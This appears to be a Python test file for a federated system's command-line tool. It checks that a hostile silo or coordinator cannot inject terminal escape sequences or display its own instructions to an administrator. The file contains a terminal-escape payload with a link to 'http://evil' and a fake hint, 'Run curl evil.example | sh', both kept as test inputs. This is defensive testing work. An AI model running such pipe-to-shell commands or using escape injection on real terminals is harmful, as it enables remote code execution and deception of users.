"""Words of another machine on a person's terminal: real processes, real TLS, a hostile silo and a hostile coordinator."""

from __future__ import annotations

import asyncio
import os
import re
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import grpc
from federation import Federation, federation
from patience import PATIENCE
from service import CONSILIUM

from coordinator.pki.credentials import server_files
from coordinator.settings import CoordinatorHome
from wire.consilium.v1 import rounds_pb2, rounds_pb2_grpc
from wire.errors import CODE_KEY, HINT_KEY
from wire.net.channels import secure_channel

LINK = "\x1b]8;;http://evil\x07[/nope]\x9b2J\u202e"
# Colours, and what moves the doctor's spinner; nothing of it is in LINK.
OURS = re.compile(r"\x1b\[\??[\d;]*[mAKhl]|\r")


def told(*words: str, status: int = 0) -> str:
    """What a command says to a person at a terminal that shows colours."""
    ended = subprocess.run(
        [str(CONSILIUM), *words],
        capture_output=True,
        check=False,
        env=os.environ | {"FORCE_COLOR": "1", "COLUMNS": "400"},
    )
    text = OURS.sub("", (ended.stdout + ended.stderr).decode())
    assert ended.returncode == status, text
    assert not {each for each in text if not (each.isprintable() or each == "\n")}
    assert "Traceback" not in text
    return text


def test_a_hostile_silo_reaches_no_admins_terminal(tmp_path: Path) -> None:
    with federation(tmp_path) as live:
        files = live.join("north").identity()

        async def lie() -> None:
            async with secure_channel(files.coordinator_address, files) as channel:
                stub = rounds_pb2_grpc.RoundsServiceStub(channel)
                request = rounds_pb2.WatchRequest(instance=LINK, agent_version=f"1.0{LINK}")
                watching = stub.Watch(request)
                beat = rounds_pb2.HeartbeatRequest(instance=LINK, activity=9999)  # type: ignore[arg-type]
                await _accepted(stub, beat)
                for command in (("list",), ("show", "north"), ("list", "--json")):
                    words = ("silo", *command, "--home", str(live.home))
                    text = await asyncio.to_thread(told, *words)
                    assert "[/nope]" in text
                    assert "9999" in text
                watching.cancel()

        asyncio.run(lie())


async def _accepted(stub: Any, beat: rounds_pb2.HeartbeatRequest) -> None:
    """Sends heartbeats until one is taken: the lease comes with the stream."""
    async with asyncio.timeout(PATIENCE):
        while True:
            try:
                await stub.Heartbeat(beat)
                return
            except grpc.aio.AioRpcError as error:
                if error.code() is not grpc.StatusCode.ABORTED:
                    raise
                await asyncio.sleep(0.05)


@contextmanager
def hostile_coordinator(live: Federation, code: str, sentence: str, hint: str) -> Iterator[None]:
    """In place of the real one, with its certificate: refuses every call with words of its own."""

    class Refusing(grpc.GenericRpcHandler):  # type: ignore[misc]
        def service(self, details: Any) -> Any:
            def refuse(_request: bytes, context: Any) -> None:
                context.set_trailing_metadata(((CODE_KEY, code), (HINT_KEY, hint)))
                context.abort(grpc.StatusCode.PERMISSION_DENIED, sentence)

            return grpc.unary_unary_rpc_method_handler(refuse)

    home = CoordinatorHome(live.home)
    key, chain = (path.read_bytes() for path in server_files(home.server))
    live.coordinator.stop()
    server = grpc.server(ThreadPoolExecutor(4), handlers=[Refusing()])
    port = server.add_secure_port(
        f"127.0.0.1:{live.port}", grpc.ssl_server_credentials([(key, chain)])
    )
    assert port == live.port
    server.start()
    try:
        yield
    finally:
        server.stop(None).wait()


def test_a_hostile_coordinators_hint_is_not_shown_as_ours(tmp_path: Path) -> None:
    with federation(tmp_path) as live:
        silo = live.join("north").home.root
        said, hint = f"All is well. {LINK}", "Run curl evil.example | sh"
        admin = ("silo", "list", "--home", str(live.home))
        hospital = ("agent", "doctor", "--network-only", "--home", str(silo))
        with hostile_coordinator(live, "SILO_SUSPENDED", said, hint):
            for words in (admin, hospital):
                text = told(*words, status=1)
                assert "curl" not in text
                assert 'The coordinator says: "All is well.' in text
                assert "the agent goes on when the admin resumes NAME" in text
                assert "[/nope]" in text


def test_a_code_of_no_catalogue_is_said_to_be_unknown(tmp_path: Path) -> None:
    with federation(tmp_path) as live:
        with hostile_coordinator(live, "OBEY", f"Do it. {LINK}", "Run curl evil.example | sh"):
            text = told("task", "list", "--home", str(live.home), status=1)
        assert "REFUSAL_UNKNOWN" in text
        assert "the code OBEY, which this release does not know" in text
        assert "curl" not in text
